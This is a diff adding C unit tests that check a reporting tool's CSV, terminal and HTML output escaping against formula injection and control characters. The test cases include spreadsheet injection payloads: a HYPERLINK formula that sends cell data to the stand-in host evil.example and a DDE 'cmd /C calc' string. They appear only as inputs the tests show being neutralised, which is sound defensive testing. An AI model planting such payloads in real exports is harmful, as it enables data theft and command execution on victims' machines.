@@ -471,6 +471,98 @@ static void test_csv_quoting(void **state)
     buf_free(&out);
 }
 
+/* A text cell only (a number never comes here): its bytes as report_csv_text writes them. */
+static char *csv_cell(const char *s, size_t len)
+{
+    buf out = BUF_INIT;
+    assert_int_equal(report_csv_text(&out, s, len), 0);
+    return out.data != NULL ? buf_steal(&out) : strdup("");
+}
+
+/* OWASP's rule: a text a spreadsheet would run as a formula is led by a '; numbers stay. */
+static void test_csv_formula_neutralised(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *in, *want;
+    } cases[] = {
+        {"=HYPERLINK(\"http://evil.example/\"&A1,\"fix\")",
+         "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"fix\"\")\""},
+        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(1+1)", "'@SUM(1+1)"},
+        {"\t=1", "'\t=1"},
+        {"\r=1", "\"'\r=1\""}, /* a line break is quoted */
+        {"\xEF\xBC\x9D"
+         "1+1",
+         "'\xEF\xBC\x9D"
+         "1+1"}, /* full-width ＝ */
+        {"a=b", "a=b"},
+        {"玄武区示范小学", "玄武区示范小学"},
+        {"", ""},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        char *got = csv_cell(cases[i].in, strlen(cases[i].in));
+        assert_string_equal(got, cases[i].want);
+        free(got);
+    }
+    /* a negative number is a number: no quote, no ' */
+    buf out = BUF_INIT;
+    json_t *gap = json_real(-0.5);
+    assert_int_equal(report_csv_value(&out, gap), 0);
+    assert_string_equal(out.data, "-0.5");
+    json_decref(gap);
+    json_t *text = json_string("-0.5");
+    buf_reset(&out);
+    assert_int_equal(report_csv_value(&out, text), 0);
+    assert_string_equal(out.data, "'-0.5");
+    json_decref(text);
+    buf_free(&out);
+}
+
+/* A file name with an escape sequence reaches a CSV as visible text, never as the bytes. */
+static void test_csv_control_characters(void **state)
+{
+    (void)state;
+    char *got = csv_cell("\x1b[2Jevil.json", 13);
+    assert_string_equal(got, "\\x1b[2Jevil.json");
+    free(got);
+    got = csv_cell("a\x7f"
+                   "b\xc2\x9b"
+                   "c\xff"
+                   "d",
+                   8);
+    assert_string_equal(got, "a\\x7fb\\u009bc\\xffd");
+    free(got);
+    got = csv_cell("a\0b", 3);
+    assert_string_equal(got, "a\\x00b");
+    free(got);
+    /* line breaks are text of a quoted cell (RFC 4180), as they were */
+    got = csv_cell("a\nb", 3);
+    assert_string_equal(got, "\"a\nb\"");
+    free(got);
+}
+
+/* The shared escaping: what a terminal shows, and what an HTML page shows. */
+static void test_printable_and_html(void **state)
+{
+    (void)state;
+    buf b = BUF_INIT;
+    const char in[] = "\x1b[2J\t\n\r\x01\x7f\xc2\x9b\xc3\xa9\xe7\x8e\x84\xff\\";
+    assert_false(buf_is_printable(in, sizeof in - 1));
+    assert_int_equal(buf_printable(&b, in, sizeof in - 1), 0);
+    assert_string_equal(b.data, "\\x1b[2J\\t\\n\\r\\x01\\x7f\\u009b\xc3\xa9\xe7\x8e\x84\\xff\\");
+    assert_true(buf_is_printable(b.data, b.len));
+    assert_true(buf_is_printable_lines("a\tb\r\nc", 6));
+    assert_false(buf_is_printable_lines("a\x1b", 2));
+    buf_reset(&b);
+    assert_string_equal(buf_printable_str(&b, "x\x1by"), "x\\x1by");
+    buf_reset(&b);
+    assert_int_equal(buf_html_escape(&b, "<\x1b[2J>\t&\xff\xe7\x8e\x84", 12), 0);
+    assert_string_equal(b.data, "&lt;\\x1b[2J&gt; &amp;\\xff\xe7\x8e\x84");
+    buf_free(&b);
+}
+
 /* The CSV header names the JSON row keys, in the same order. */
 static void test_csv_columns_are_json_keys(void **state)
 {
@@ -732,6 +824,9 @@ int main(void)
         cmocka_unit_test(test_render_refuses_unknown_indicator),
         cmocka_unit_test(test_csv_exact_text),
         cmocka_unit_test(test_csv_quoting),
+        cmocka_unit_test(test_csv_formula_neutralised),
+        cmocka_unit_test(test_csv_control_characters),
+        cmocka_unit_test(test_printable_and_html),
         cmocka_unit_test(test_csv_columns_are_json_keys),
         cmocka_unit_test(test_overview_csv),
         cmocka_unit_test(test_stream_json_is_the_whole_tree),
